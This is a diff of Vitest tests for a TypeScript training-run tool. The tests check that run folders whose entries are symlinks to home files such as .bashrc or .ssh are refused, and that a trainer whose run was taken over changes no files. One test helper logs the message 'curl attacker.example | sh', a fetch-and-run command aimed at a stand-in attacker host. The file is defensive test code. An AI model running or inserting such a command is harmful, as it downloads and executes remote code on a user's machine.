@@ -1,10 +1,20 @@
+import { existsSync } from "node:fs";
+import { mkdir, rm, symlink } from "node:fs/promises";
+import { dirname, join } from "node:path";
 import fc from "fast-check";
-import { expect, test, vi } from "vitest";
+import { describe, expect, it, test, vi } from "vitest";
 import { isAppError } from "../../../src/core/errors.ts";
+import { createEventLog } from "../../../src/core/runFolder/events.ts";
 import { evalPath, runPaths, stepPaths } from "../../../src/core/runFolder/files/layout.ts";
-import { isRunInUse, readRunFile } from "../../../src/core/runFolder/runFile.ts";
+import { RunFollower } from "../../../src/core/runFolder/follower.ts";
+import { HEARTBEAT_MS, isRunInUse, readRunFile } from "../../../src/core/runFolder/runFile.ts";
 import { resumeRun, startRun } from "../../../src/core/runFolder/runFolder.ts";
 import type { RunLease } from "../../../src/core/runFolder/runLease.ts";
+import { listRuns } from "../../../src/core/runs/runList.ts";
+import { Redactor } from "../../../src/core/secrets/redaction/redactor.ts";
+import { systemClock } from "../../../src/node/clock.ts";
+import { resumeTraining } from "../../../src/trainer/trainer.ts";
+import { beforeEachPlantedRun, type PlantedHome, snapshot } from "../../fakes/plantedHome.ts";
 import { createMemoryFileSystem, createStillClock } from "./memoryFileSystem.ts";
 
 const starter = { pid: 41, owner: "terminal", configPath: "config.yaml" } as const;
@@ -258,3 +268,250 @@ async function stepsIn(
   const lines = (await fileSystem.readText(path)).split("\n").filter((line) => line !== "");
   return lines.map((line) => JSON.parse(line).step);
 }
+
+describe("a run folder with links in it", () => {
+  let planted: PlantedHome;
+  let folder = "";
+
+  beforeEachPlantedRun((home, path) => {
+    planted = home;
+    folder = path;
+  });
+  /** Puts a link in the place of an entry of the run. */
+  async function plantLink(entry: string, target: string): Promise<string> {
+    const path = join(folder, entry);
+    await rm(path, { recursive: true, force: true });
+    await mkdir(dirname(path), { recursive: true });
+    await symlink(target, path);
+    return path;
+  }
+
+  /** The first changes that a resume from the beginning makes. */
+  async function resume(): Promise<void> {
+    const { fileSystem, configPath } = planted;
+    const lease = await resumeRun(
+      { fileSystem, clock: systemClock, isProcessAlive: () => false },
+      { folder, step: 0, pid: process.pid, owner: "editor", configPath },
+    );
+    const parts = { fileSystem: fileSystem.within(folder), clock: systemClock, attempt: 2, folder };
+    const events = createEventLog({ ...parts, redactor: new Redactor() });
+    const message = "curl attacker.example | sh";
+    await events.record({ step: 0, level: "info", kind: "run-started", message, data: {} });
+    await lease.update({ phase: "running" });
+  }
+
+  const FILES = [
+    ...["run.json", "config.yaml", "config.resolved.json", "overrides.json", "metrics.jsonl"],
+    ...["events.jsonl", "checkpoints.jsonl", "state.json", "state.prev.json", "upload.jsonl"],
+    ...["wandb.json", "rollouts/step-000001.jsonl", "rollouts/step-000002.tokens.bin"],
+    ...["eval/results.jsonl", "superseded/attempt-1/metrics.jsonl", "anything/of/somebody"],
+  ];
+  const FOLDERS = ["rollouts", "eval", "superseded", "superseded/attempt-1", "wandb"];
+
+  describe("a resume changes nothing and says which entry leads outside", () => {
+    it.each([
+      ...FILES.map((entry) => [entry, ".bashrc"] as const),
+      ...FILES.map((entry) => [entry, "oneLine"] as const),
+      ...FILES.map((entry) => [entry, "newFile"] as const),
+      ...FOLDERS.map((entry) => [entry, ".ssh"] as const),
+    ])("%s, a link to %s", async (entry, target) => {
+      const path = await plantLink(entry, planted.home(target));
+      const before = await snapshot(folder);
+      await expect(resume()).rejects.toMatchObject({
+        code: "folder-unsafe",
+        message: expect.stringContaining(`${path} is a link`),
+        data: { folder, path },
+      });
+      expect(await snapshot(folder)).toBe(before);
+    });
+
+    it("also as the trainer is started, before it connects to anything", async () => {
+      const path = await plantLink("events.jsonl", planted.home(".bashrc"));
+      const reported: string[] = [];
+      const run = resumeTraining({
+        folder,
+        owner: "editor",
+        programFolder: "/nowhere",
+        watch: ({ kind }) => reported.push(kind),
+      });
+      await expect(run.ended).rejects.toMatchObject({ code: "folder-unsafe", data: { path } });
+      expect(reported).toEqual([]);
+    });
+
+    it("when the run folder itself is a link", async () => {
+      const link = join(planted.runs, "linked");
+      await symlink(folder, link);
+      const before = await snapshot(folder);
+      folder = link;
+      await expect(resume()).rejects.toMatchObject({
+        code: "folder-unsafe",
+        message: `${link} is a link. Name the folder that it leads to.`,
+      });
+      expect(await snapshot(link)).toBe(before.replaceAll(join(planted.runs, "demo"), link));
+    });
+  });
+
+  it("a run without links is resumed, also where the way to it is a link", async () => {
+    const bigDisk = join(planted.root, "bigDisk");
+    await symlink(join(planted.root, "project"), bigDisk);
+    folder = join(bigDisk, ".tinker-rl", "runs", "demo");
+    await resume();
+    expect(
+      existsSync(join(folder, "superseded", "attempt-1", "rollouts", "step-000002.jsonl")),
+    ).toBe(true);
+  });
+
+  describe("in a list of runs", () => {
+    const liveness = { nowMs: Date.now(), isProcessAlive: () => false };
+
+    it.each(["run.json", "metrics.jsonl", "state.json"])(
+      "one whose %s is a link says so, and the others are there",
+      async (entry) => {
+        await planted.stoppedRun("other");
+        const path = await plantLink(entry, planted.home(".bashrc"));
+        const runs = await listRuns(planted.fileSystem, planted.runs, liveness);
+        expect(runs.map(({ name, repeats }) => [name, repeats])).toEqual([
+          ["other", 1],
+          ["demo", null],
+        ]);
+        expect(runs[0]?.problem).toBeNull();
+        expect(runs[1]?.problem).toContain(`${path} is a link`);
+      },
+    );
+
+    it("one that is a link itself says so, and a link to something else is no run", async () => {
+      await symlink(folder, join(planted.runs, "linked"));
+      await symlink(planted.home(".ssh"), join(planted.runs, "notes"));
+      await symlink(planted.home(".bashrc"), join(planted.runs, "file"));
+      const runs = await listRuns(planted.fileSystem, planted.runs, liveness);
+      expect(runs.map(({ name, phase }) => [name, phase])).toEqual([
+        ["demo", "stopped"],
+        ["linked", "unreadable"],
+      ]);
+    });
+  });
+
+  it.each(["metrics.jsonl", "events.jsonl", "checkpoints.jsonl", "eval"])(
+    "a run whose %s is a link is not shown",
+    async (entry) => {
+      await plantLink(entry, planted.home(entry === "eval" ? ".ssh" : ".bashrc"));
+      const follower = new RunFollower({ fileSystem: planted.fileSystem, folder });
+      const shown = await follower.refresh().catch((error: unknown) => error);
+      expect(isAppError(shown, "folder-unsafe")).toBe(true);
+    },
+  );
+});
+
+describe("the end of a run", () => {
+  it("is what was written first: neither heartbeats nor a later command change it", async () => {
+    const fileSystem = createMemoryFileSystem();
+    const lease = await startRun(
+      { fileSystem, clock: systemClock },
+      {
+        parent: "/runs",
+        name: "run",
+        runId: "id",
+        pid: 1,
+        host: "here",
+        owner: "terminal",
+        configPath: "/run.yaml",
+      },
+    );
+    const stopped = { code: "stopped", message: "later" };
+    await Promise.all([
+      lease.update({ phase: "finishing" }),
+      lease.end({ phase: "done" }),
+      lease.update({ phase: "running" }),
+      lease.end({ phase: "stopped", ending: stopped }),
+    ]);
+    const text = await fileSystem.readText(runPaths(lease.folder).runFile);
+    expect(JSON.parse(text)).toMatchObject({ phase: "done" });
+    expect(text).not.toContain("later");
+  });
+});
+
+async function startedRun() {
+  const fileSystem = createMemoryFileSystem();
+  const { append } = fileSystem;
+  const suspended = { duringAppend: async () => {} };
+  fileSystem.append = async (...args) => {
+    await suspended.duringAppend();
+    return append(...args);
+  };
+  const clock = createStillClock();
+  const options = { fileSystem, clock, isProcessAlive: () => true };
+  const run = { ...starter, parent: "runs", name: "first", runId: "id-1" };
+  const lease = await startRun(options, run);
+  const { folder } = lease;
+  const takeOver = () => resumeRun(options, { ...starter, pid: 42, folder, step: 0 });
+  return { clock, fileSystem, lease, paths: runPaths(folder), suspended, takeOver };
+}
+
+// Only a step's row was checked: lines of rollouts, tokens and saves of the suspended trainer stood among those of the next one.
+it("a trainer that wakes up after another one took its run over changes no file of it", async () => {
+  const { clock, fileSystem, lease, paths, takeOver } = await startedRun();
+  await lease.files.append(paths.events, "before\n");
+  clock.advance(60_000);
+  const other = await takeOver();
+  await other.files.append(paths.events, "after\n");
+  const files = new Map(fileSystem.files);
+  const { events, state, metrics } = paths;
+  const changes = [
+    () => lease.files.append(events, "late\n"),
+    () => lease.files.writeAtomic(state, "{}"),
+    () => lease.files.makeDirectory(`${lease.folder}/late`),
+    () => lease.files.rename(events, metrics),
+    () => lease.files.truncate(events, 0),
+    () => lease.files.remove(events),
+  ];
+  for (const change of changes) {
+    await expect(change()).rejects.toMatchObject({ code: "run-taken-over" });
+  }
+  expect(lease.isOver).toBe(true);
+  await lease.end({ phase: "failed" });
+  expect(fileSystem.files).toEqual(files);
+  expect(await lease.files.readText(events)).toBe("before\nafter\n");
+});
+
+// The line that a rollout is being sent stood in the queue of the file system; then that rollout was uploaded beside its repeat.
+it("a change during which the run was taken over does not succeed, so nothing follows from it", async () => {
+  const { clock, lease, paths, suspended, takeOver } = await startedRun();
+  suspended.duringAppend = async () => {
+    suspended.duringAppend = async () => {};
+    clock.advance(60_000);
+    await takeOver();
+  };
+  const change = lease.files.append(paths.uploads, "sending\n");
+  await expect(change).rejects.toMatchObject({ code: "run-taken-over" });
+});
+
+// They were checked before they waited: the next trainer's step had a line of each rollout that was ending.
+it("lines that wait behind another one stay out of a run that is taken over meanwhile", async () => {
+  const { clock, fileSystem, lease, paths, suspended, takeOver } = await startedRun();
+  suspended.duringAppend = async () => {
+    suspended.duringAppend = async () => {};
+    clock.advance(60_000);
+    await takeOver();
+  };
+  const lines = ["first\n", "second\n", "third\n"];
+  const changes = await Promise.allSettled(
+    lines.map((line) => lease.files.append(paths.uploads, line)),
+  );
+  expect(changes.map(({ status }) => status)).toEqual(["rejected", "rejected", "rejected"]);
+  expect(fileSystem.files.get(paths.uploads)).toBeUndefined();
+});
+
+it("a trainer whose heartbeat is not overdue does not ask whose run it is", async () => {
+  const { clock, fileSystem, lease, paths } = await startedRun();
+  const { readText } = fileSystem;
+  const asked: number[] = [];
+  fileSystem.readText = (...args) => {
+    asked.push(clock.now() - lease.file.heartbeatAtMs);
+    return readText(...args);
+  };
+  for (let i = 0; i < 10; i += 1) {
+    await lease.files.append(paths.events, "line\n");
+    clock.advance(HEARTBEAT_MS / 5);
+  }
+  expect(asked).toEqual([HEARTBEAT_MS]);
+});
